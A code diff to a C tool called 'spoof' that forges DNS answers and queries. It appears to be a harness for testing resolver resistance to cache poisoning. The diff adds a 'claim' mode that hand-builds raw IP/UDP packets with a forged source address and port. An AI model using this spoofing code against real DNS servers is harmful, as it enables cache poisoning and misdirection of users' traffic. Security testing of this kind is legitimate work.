@@ -2,6 +2,7 @@
  *   spoof flood FROM TO NAME RATE SECONDS     forged answers from FROM:53 to random ports (1024..65535) of TO under random ids
  *   spoof know FROM TO NAME SECONDS           the same forged answer under the port and id of each query that FROM is sent
  *   spoof ask SERVER NAME SECONDS ADDRESS...  one query for NAME outstanding from each own address at all times
+ *   spoof claim FROM PORT TO PORT NAME        one query for NAME that says that it is from the first address and port
  * The forged answer has the right question and the address 198.51.100.66. `flood` and `know` print how many they sent;
  * `ask` prints one line of JSON: how many queries it sent, and how many answers were true, forged, or errors. */
 #define _GNU_SOURCE
@@ -21,6 +22,7 @@
 #define BATCH 64
 #define CLIENTS 64
 #define UDP_HEADER 8
+#define IP_HEADER 20
 #define FIRST_PORT 1024
 #define EVIL "\xc6\x33\x64\x42"
 
@@ -118,6 +120,25 @@ static int open_raw(const char *from, const char *to)
 			fail("connect");
 	}
 	return fd;
+}
+
+static int run_claim(char **a)
+{
+	uint8_t packet[512] = { 0x45 };
+	struct sockaddr_in from = address_of(a[2], 0), to = address_of(a[4], 0);
+	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), own = atoi(a[3]), port = atoi(a[5]);
+	int size = UDP_HEADER + write_question(packet + IP_HEADER + UDP_HEADER, a[6], 0x0100, 0);
+	uint8_t udp[UDP_HEADER] = { own >> 8, own, port >> 8, port, size >> 8, size };
+
+	/* The kernel fills in length and checksum. */
+	packet[8] = 64;
+	packet[9] = IPPROTO_UDP;
+	memcpy(packet + 12, &from.sin_addr, 4);
+	memcpy(packet + 16, &to.sin_addr, 4);
+	memcpy(packet + IP_HEADER, udp, sizeof(udp));
+	if (fd < 0 || sendto(fd, packet, IP_HEADER + size, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
+		fail("claim");
+	return 0;
 }
 
 static int run_flood(char **a)
@@ -222,6 +243,8 @@ int main(int argc, char **argv)
 {
 	if (argc == 7 && strcmp(argv[1], "flood") == 0)
 		return run_flood(argv);
+	if (argc == 7 && strcmp(argv[1], "claim") == 0)
+		return run_claim(argv);
 	if (argc == 6 && strcmp(argv[1], "know") == 0)
 		return run_know(argv);
 	if (argc >= 6 && strcmp(argv[1], "ask") == 0)
